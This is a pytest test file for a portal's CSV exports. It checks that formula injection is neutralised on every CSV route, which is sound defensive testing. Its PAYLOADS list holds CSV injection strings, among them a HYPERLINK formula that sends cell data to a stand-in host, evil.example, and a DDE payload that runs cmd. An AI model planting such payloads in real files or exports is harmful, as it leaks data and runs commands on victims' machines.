"""Formula injection is neutralised in every CSV the portal serves. The CSV routes are found
from the app's route table (any GET answering ``text/csv``), so a new export is covered."""

from __future__ import annotations

import csv
import io
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lantern.portal import accounts, households
from lantern.portal.csvsafe import FORMULA_STARTS, safe_cell, to_csv
from lantern.portal.models import Role
from lantern.portal.synthetic import synthetic_nhs_number

from .conftest import UNLIMITED, make_portal
from .test_route_table import concrete, route_table

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
    " =1+1",
]


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def injected(request, tmp_path_factory):
    portal = make_portal(
        request.param, "portal_csv", tmp_path_factory.mktemp("csv"), request, **UNLIMITED
    )
    w = portal.world
    path = portal.folder / "evil.csv"
    with path.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(
            ["reference", "lsoa21_code", "reason", "contact_name", "address", "phone", "nhs_number"]
        )
        rng = random.Random(5)
        for i, payload in enumerate(PAYLOADS):
            writer.writerow(
                [f"SYN-E{i:04d}", w.in_lsoas[0], payload, payload, payload, payload]
                + [synthetic_nhs_number(rng)]
            )
    with portal.session() as s:
        households.import_csv(
            s,
            path,
            agreement_id=w.agreement,
            party="ecc-asc",
            key=portal.settings.key_bytes(),
            actor=PAYLOADS[0],
        )
        accounts.create_user(
            s,
            username="evil",
            role=Role.ANALYST,
            password=None,
            organisation=PAYLOADS[1],
            display_name=PAYLOADS[2],
            actor=PAYLOADS[3],
        )
        s.commit()
    return portal


def _cells(text: str) -> list[str]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]
    return [cell for row in csv.reader(io.StringIO("".join(lines))) for cell in row]


def test_every_csv_route_is_neutralised(injected):
    clients = {"admin": injected.sign_in("admin"), "hub": injected.sign_in("hub")}
    params = {
        "agreement": injected.world.agreement,
        "purpose": "hub-outreach",
        "format": "csv",
        "indicator_id": "iod2025.imd_score",
    }
    found = []
    for method, template in route_table(injected.app):
        if method != "GET" or template.startswith("/static"):
            continue
        url = template.replace("{code}", injected.world.hub_ward)
        url = concrete(injected, url)
        for who, client in clients.items():
            response = client.get(url, params=params)
            if response.status_code == 200 and response.headers["content-type"].startswith(
                "text/csv"
            ):
                found.append((template, who))
                cells = _cells(response.text)
                assert cells
                for cell in cells:
                    assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (template, cell)
    templates = {t for t, _ in found}
    assert {
        "/api/households/export",
        "/households/export",
        "/api/admin/audit/export",
        "/api/aggregates/export",
        "/aggregates/export",
    } <= templates
    # the payloads did reach the household export, defused
    export = clients["hub"].get("/api/households/export", params=params).text
    assert "'" + PAYLOADS[0] in _cells(export)


@given(st.text(max_size=20))
def test_safe_cell_never_leaves_a_formula(value):
    cell = safe_cell(value)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert cell == value or cell == "'" + value
    rows = list(csv.reader(io.StringIO(to_csv(["v"], [[value]]), newline="")))
    assert rows[1:] == [[cell]]


def test_numbers_stay_numbers():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
    assert to_csv(["a", "b"], [[-1, "-1"]]) == "a,b\r\n-1,'-1\r\n"
